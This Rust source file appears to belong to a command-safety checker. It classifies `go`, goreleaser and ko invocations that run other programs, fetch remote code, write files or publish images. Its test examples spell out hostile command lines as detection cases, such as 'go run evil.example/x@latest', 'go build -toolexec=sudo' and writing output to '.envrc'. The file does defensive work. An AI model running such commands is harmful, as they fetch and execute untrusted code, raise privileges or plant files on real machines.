//! `go` and the tools around it.

use crate::reader::Value;
use crate::registry::prelude::*;

const SYNTAX: Program = Program {
    flags: "-a -n -race -msan -asan -v -work -x -cover -linkshared -modcacherw -trimpath -json -c -i -t -u -d -m -e -benchmem \
            -short -failfast -fullpath -artifacts -compiled -deps -export -find -test -versions -retracted \
            -h|-help -fix -all -src -cmd -w -changed -diff",
    valued: "-C -o -p -exec -toolexec -vettool -overlay -ldflags -gcflags -asmflags -gccgoflags -mod -modfile -pkgdir -tags -buildmode \
             -buildvcs -compiler -covermode -coverpkg -coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace \
             -outputdir -run -skip -bench -benchtime -blockprofilerate -count -cpu -fuzz -fuzztime -fuzzminimizetime -list \
             -memprofilerate -mutexprofilefraction -parallel -shuffle -timeout -vet -f -reuse -installsuffix -pgo -tool -go",
    ..Program::SINGLE
};

/// Files that are run, or that decide what is run.
const SOURCES: &str = "**/*.go";
/// What says with which tools sources are built.
const MODULE: &str = "go.mod go.work";

/// Rules for the options of every building subcommand.
const BUILDS: &[Rule] = &[
    when(
        Has("-toolexec -exec -vettool -overlay -pkgdir -gccgoflags -modfile"),
        Hides("`go` with programs or files of its own choice"),
    ),
    always(RunsLine(At::Value("-toolexec -exec -vettool"))),
    always(ByOption(linker)),
    always(Writes(At::Value("-o -coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace -outputdir"))),
];

pub(super) static ALL: &[Program] = &[
    Program {
        family: &["go", "tinygo", "garble"],
        general: "build test vet",
        folder: "-C",
        rules: BUILDS,
        prints: &[("go", Prints::NamesWith("list"))],
        subcommands: &[
            command(
                "run",
                Syntax::LEADING,
                &[always(ByOption(from_elsewhere)), always(Obeys(SOURCES)), always(ObeysIn(At::Nth(0), SOURCES))],
            ),
            ruled("generate", &[always(ObeysAround(SOURCES))]),
            ruled("install", &[always(FOR_USER)]),
            ruled("env", &[when(Has("-w -u"), Hides("settings of `go` that later calls obey"))]),
            command(
                "tool",
                Syntax { flags: "-*", valued: "-extld -extldflags -extar -plugin", ..Syntax::SINGLE },
                &[
                    always(ByOption(from_elsewhere)),
                    when(Has("-extld -extldflags -extar -plugin"), Hides("a linker of one's own choice")),
                ],
            ),
            ruled("build test vet", &[always(ObeysAround(MODULE))]),
        ],
        plain: "bug clean doc fix fmt get help list mod telemetry version work",
        otherwise: Otherwise::Opaque("no command of it that is known"),
        builds: true,
        examples: &[
            ("go build -toolexec=sudo", Expect::Runs("sudo")),
            ("go build -toolexec sudo ./...", Expect::Runs("sudo")),
            ("go test -exec sudo", Expect::Runs("sudo")),
            ("go test --exec=sudo ./...", Expect::Runs("sudo")),
            ("go vet -vettool=./x", Expect::Runs("./x")),
            ("go build -overlay x", Expect::Opaque("of its own choice")),
            ("go build -ldflags='-extld=./x'", Expect::Opaque("a linker")),
            ("go run evil.example/x@latest", Expect::Opaque("code from elsewhere")),
            ("go install x@latest", Expect::Asks("outside of the workspace")),
            ("go env -w GOPROXY=x", Expect::Opaque("settings of `go`")),
            ("go build -o x .", Expect::Writes("x")),
            ("go -C sub build -o x", Expect::Writes("sub/x")),
            ("go test -coverprofile x ./...", Expect::Writes("x")),
            ("go frob", Expect::Opaque("no command of it")),
            ("go tool cover -html=c.out -o .envrc", Expect::Writes(".envrc")),
            ("go tool cover -func=c.out -o=.envrc", Expect::Writes(".envrc")),
            ("go tool compile -o x.o a.go", Expect::Writes("x.o")),
            ("go tool link -extld=./x a.o", Expect::Opaque("a linker")),
            ("go tool link -extld ./x a.o", Expect::Opaque("a linker")),
            ("go tool evil.example/x@latest", Expect::Opaque("code from elsewhere")),
            ("echo x > main.go; go run .", Expect::Opaque("written by this very line")),
        ],
        plain_lines: &[
            "go test ./... -run TestX -v", "go build -ldflags='-s -w -X main.v=1' ./...", "go run . -exec x",
            "go vet ./...", "go mod tidy", "go env GOPATH", "go tool cover -html=c.out", "go tool cover -func c.out",
            "go tool pprof -top x.prof",
        ],
        ..SYNTAX
    },
    Program {
        names: &["goreleaser"],
        flags: "--snapshot --clean -h|--help --debug --verbose",
        valued: "-f|--config --skip -p|--parallelism",
        subcommands: &[ruled("release publish continue announce", &[when(Lacks("--snapshot --help"), PUBLISHES)])],
        examples: &[("goreleaser release", Expect::Asks("publishes"))],
        plain_lines: &["goreleaser release --snapshot", "goreleaser check"],
        ..Program::EXACT
    },
    Program {
        names: &["ko"],
        flags: "-h|--help -v|--verbose -L|--local -*",
        optional: "--push",
        rules: &[when_all(
            &[First("apply build create delete login publish resolve run"), Lacks("--help --local")],
            By(pushed),
        )],
        examples: &[
            ("ko apply -f x", Expect::Asks("publishes")),
            ("ko build ./cmd/x", Expect::Asks("publishes")),
            ("ko build --push=$x ./cmd/x", Expect::Asks("publishes")),
            ("ko publish --bare ./cmd/x", Expect::Asks("publishes")),
        ],
        plain_lines: &["ko build --local ./cmd/x", "ko build --push=false ./cmd/x", "ko version"],
        ..Program::EXACT
    },
];

/// Images that are pushed unless `--push` says otherwise.
fn pushed(parsed: &Parsed<'_>) -> Vec<Effect> {
    let is_kept = parsed.values("--push").any(|value| value.is_exact && value.text == "false");
    if is_kept { Vec::new() } else { vec![Effect::is(Consequence::Publishes)] }
}

/// Linker flags that name another linker.
fn linker(parsed: &Parsed<'_>) -> Vec<Effect> {
    let names = |flags: &Value| {
        flags.text.contains("extld")
            || flags.text.contains("extar")
            || flags.text.contains("plugin")
            || !flags.is_exact && flags.text.starts_with('$')
    };
    let own = parsed.values("-ldflags").any(names);
    own.then(|| Effect::hidden("a linker of one's own choice")).into_iter().collect()
}

/// `go run MODULE@VERSION` and `go tool MODULE@VERSION` fetch the program that they run.
fn from_elsewhere(parsed: &Parsed<'_>) -> Vec<Effect> {
    let fetched = parsed.operand(0).is_some_and(|package| package.text.contains('@'));
    fetched.then(|| Effect::hidden("code from elsewhere")).into_iter().collect()
}
